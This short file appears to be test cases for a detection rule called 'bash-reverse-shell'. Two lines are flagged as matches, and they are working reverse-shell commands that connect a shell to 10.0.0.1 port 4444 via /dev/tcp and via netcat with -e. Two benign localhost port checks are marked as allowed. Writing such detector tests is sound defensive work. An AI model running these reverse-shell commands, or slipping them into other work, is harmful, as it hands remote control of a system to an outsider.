# ruleid: bash-reverse-shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ruleid: bash-reverse-shell
nc 10.0.0.1 4444 -e /bin/sh
# ok: bash-reverse-shell
nc -z localhost 80
# ok: bash-reverse-shell
timeout 1 bash -c "</dev/tcp/localhost/80"
